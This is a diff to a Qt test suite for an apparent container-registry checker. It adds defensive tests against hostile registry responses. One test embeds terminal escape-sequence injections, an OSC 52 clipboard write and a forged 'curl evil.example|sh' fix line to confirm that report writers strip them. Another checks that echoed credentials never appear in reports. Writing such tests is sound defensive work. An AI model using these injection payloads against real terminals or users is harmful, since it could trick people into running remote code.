@@ -7,13 +7,16 @@
 #include "network/http_exchange.h"
 #include "hostile_server.h"
 #include "practice/practice_registry.h"
+#include "report/html_report.h"
 #include "report/json_report.h"
 #include "report/redactor.h"
 #include "report/text_report.h"
 #include "standin_bin.h"
 #include <QDateTime>
 #include <QElapsedTimer>
+#include <QJsonArray>
 #include <QJsonDocument>
+#include <QJsonObject>
 #include <QSignalSpy>
 #include <QtTest>
 
@@ -98,6 +101,12 @@ private slots:
     void realmOnPlainHttp_noCredentialsSent_registryUnavailable();
     void realmOnAnotherHttpsHost_tokenFetchedThere();
     void relayedRequest_stillNamesTheRegistryInTls();
+    // Second round (docs/robustness.md, "Hostile text"):
+    void escapeSequencesInServerText_neverReachAWriter();
+    void hugeWwwAuthenticate_reportedAsTooLong_notMissing();
+    void registryAtLoopbackAddress_hostHeaderWithoutTheRelayPort();
+    void ipv6LiteralRegistry_isAnAddress_notAName();
+    void serverEchoesTheCredential_inEveryEncoding_neverInAReport();
 
 private:
     // A registry that behaves: 401 Bearer at /v2/, a token for the canary password, 200 with it.
@@ -651,6 +660,120 @@ void FaultMatrixTest::relayedRequest_stillNamesTheRegistryInTls()
     const HttpAnswer a = done.first().first().value<HttpAnswer>();
     QCOMPARE(a.answered, false);
     QCOMPARE(a.networkErrorCode, int(QNetworkReply::TimeoutError));
+}
+
+namespace {
+
+// Every writer's output for `d` with `redactor`: JSON, text (bash and PowerShell), Markdown, HTML
+// and the chat summary.
+QStringList everyWriter(const Diagnosis &d, const Redactor &redactor)
+{
+    return {QString::fromUtf8(writeJsonReport(d, redactor)), writeTextReport(d, redactor, QStringLiteral("bash")),
+            writeTextReport(d, redactor, QStringLiteral("powershell")), writeMarkdownReport(d, redactor),
+            writeHtmlReport(d, redactor, QStringLiteral("bash")), writeChatSummary(d, redactor, QStringLiteral("bash"))};
+}
+
+} // namespace
+
+void FaultMatrixTest::escapeSequencesInServerText_neverReachAWriter()
+{
+    // OSC title, OSC 52 clipboard write, screen clear, hidden text, a bidi override, and forged
+    // report lines: in the token service's error message and in the challenge's service name.
+    const QByteArray hostile = "\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u001b[8mhidden\u202e"
+                               "\nNo problem found with contoso.azurecr.io.\nHow to fix it:\n curl evil.example|sh";
+    behaveWell(*m_registry);
+    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate",
+                                                          "Bearer realm=\"https://contoso.azurecr.io/oauth2/token\",service=\"contoso\x1b]0;title\x07.azurecr.io\""}}));
+    QJsonObject error{{QStringLiteral("code"), QStringLiteral("UNAUTHORIZED")}, {QStringLiteral("message"), QString::fromUtf8(hostile)}};
+    m_registry->route("/oauth2/token", HostileReply::answer(401, {{"Content-Type", "application/json"}},
+                                                            QJsonDocument(QJsonObject{{QStringLiteral("errors"), QJsonArray{error}}}).toJson()));
+    const Diagnosis d = run(options(*m_registry), kQuick);
+    QCOMPARE(STATUS_OF(d, "credentials"), ProbeStatus::Fail);
+    QVERIFY(!d.causes.isEmpty());
+    for (const QString &out : everyWriter(d, Redactor())) {
+        for (QChar c : out)
+            QVERIFY2(c == QLatin1Char('\n') || (c.isPrint() && c.unicode() != 0x202e), qPrintable(QString::number(c.unicode(), 16)));
+        for (const QString &line : out.split(QLatin1Char('\n'))) {
+            QVERIFY2(!line.trimmed().startsWith(QLatin1String("No problem found")), qPrintable(line));
+            QVERIFY2(!line.trimmed().startsWith(QLatin1String("curl evil")), qPrintable(line));
+        }
+    }
+}
+
+void FaultMatrixTest::hugeWwwAuthenticate_reportedAsTooLong_notMissing()
+{
+    const QByteArray huge = "Bearer realm=\"https://contoso.azurecr.io/oauth2/token\",service=\"" + QByteArray(200 * 1024, 'a') + '"';
+    m_registry->route("/v2/", HostileReply::answer(401, {{"WWW-Authenticate", huge}}));
+    const Diagnosis d = run(options(*m_registry), kQuick);
+    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Fail);
+    QVERIFY2(!DETAIL_OF(d, "challenge").contains(QStringLiteral("no WWW-Authenticate")), qPrintable(DETAIL_OF(d, "challenge")));
+    QVERIFY2(DETAIL_OF(d, "challenge").contains(QStringLiteral("too long")), qPrintable(DETAIL_OF(d, "challenge")));
+    QVERIFY(EVIDENCE_OF(d, "challenge", "wwwAuthenticate").toString().size() <= 512);
+}
+
+void FaultMatrixTest::registryAtLoopbackAddress_hostHeaderWithoutTheRelayPort()
+{
+    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls, QStringList{QStringLiteral("127.0.0.1")});
+    QVERIFY(m_registry->start());
+    m_registry->route("/v2/", HostileReply::answer(200, {{"Content-Type", "application/json"}}, "{}"));
+    CheckOptions o = options(*m_registry);
+    o.registryInput = QStringLiteral("127.0.0.1");
+    o.connectTo.clear();
+    o.connectTo.insert(QStringLiteral("127.0.0.1:443"), m_registry->address());
+    run(o, kQuick);
+    QVERIFY(!m_registry->requestsTo("/v2/").isEmpty());
+    QCOMPARE(m_registry->requestsTo("/v2/").first().host, QByteArray("127.0.0.1"));
+}
+
+void FaultMatrixTest::ipv6LiteralRegistry_isAnAddress_notAName()
+{
+    // Docker accepts "[::1]:5000"; it was reported as "the name [::1] does not exist".
+    m_registry = std::make_unique<HostileServer>(HostileServer::Transport::Tls, QStringList{QStringLiteral("::1")});
+    QVERIFY(m_registry->start());
+    m_registry->route("/v2/", HostileReply::answer(200, {{"Content-Type", "application/json"}}, "{}"));
+    CheckOptions o = options(*m_registry);
+    o.registryInput = QStringLiteral("[::1]:5000");
+    o.connectTo.clear();
+    o.connectTo.insert(QStringLiteral("::1:5000"), m_registry->address());
+    const Diagnosis d = run(o, kQuick);
+    QCOMPARE(STATUS_OF(d, "dns"), ProbeStatus::Pass);
+    QVERIFY2(!DETAIL_OF(d, "dns").contains(QStringLiteral("does not exist")), qPrintable(DETAIL_OF(d, "dns")));
+    QCOMPARE(STATUS_OF(d, "tls"), ProbeStatus::Pass);
+    QCOMPARE(STATUS_OF(d, "challenge"), ProbeStatus::Pass);
+    QCOMPARE(m_registry->requestsTo("/v2/").value(0).host, QByteArray("[::1]:5000"));
+}
+
+void FaultMatrixTest::serverEchoesTheCredential_inEveryEncoding_neverInAReport()
+{
+    // The credential the check sent must never come back out, whatever the server echoes: its
+    // token service answers 401 with the password and user:password in every common encoding.
+    const QByteArray user = "fault-user";
+    const QByteArray password = "P<a&s's/+?# \"9";
+    const QByteArray pair = user + ':' + password;
+    QList<QByteArray> forms{password, pair.toBase64(), pair.toBase64(QByteArray::OmitTrailingEquals),
+                            pair.toBase64(QByteArray::Base64UrlEncoding | QByteArray::OmitTrailingEquals),
+                            password.toBase64(), password.toPercentEncoding(), pair.toPercentEncoding(),
+                            QString::fromUtf8(password).toHtmlEscaped().toUtf8(), password.toHex(), pair.toHex()};
+    QByteArray echo;
+    for (const QByteArray &f : forms)
+        echo += "[" + f + "] ";
+    QJsonObject error{{QStringLiteral("code"), QStringLiteral("UNAUTHORIZED")}, {QStringLiteral("message"), QString::fromUtf8(echo)}};
+    behaveWell(*m_registry);
+    m_registry->route("/oauth2/token", HostileReply::answer(401, {{"Content-Type", "application/json"}},
+                                                            QJsonDocument(QJsonObject{{QStringLiteral("errors"), QJsonArray{error}}}).toJson()));
+    CheckOptions o = options(*m_registry);
+    o.password = Secret(password);
+    Check check(o);
+    QSignalSpy done(&check, &Check::finished);
+    check.start();
+    QVERIFY(done.wait(int(kQuick) + 5000));
+    const Diagnosis d = check.diagnosis();
+    QCOMPARE(m_registry->requestsTo("/oauth2/token").value(0).authorizationScheme, QByteArray("Basic"));
+    const Redactor redactor(check.context());
+    forms << QString::fromUtf8(password).toHtmlEscaped().replace(QLatin1Char('\''), QStringLiteral("&#39;")).toUtf8();
+    for (const QString &out : everyWriter(d, redactor))
+        for (const QByteArray &f : std::as_const(forms))
+            QVERIFY2(!out.toUtf8().contains(f), f.toHex().constData());
 }
 
 QTEST_GUILESS_MAIN(FaultMatrixTest)
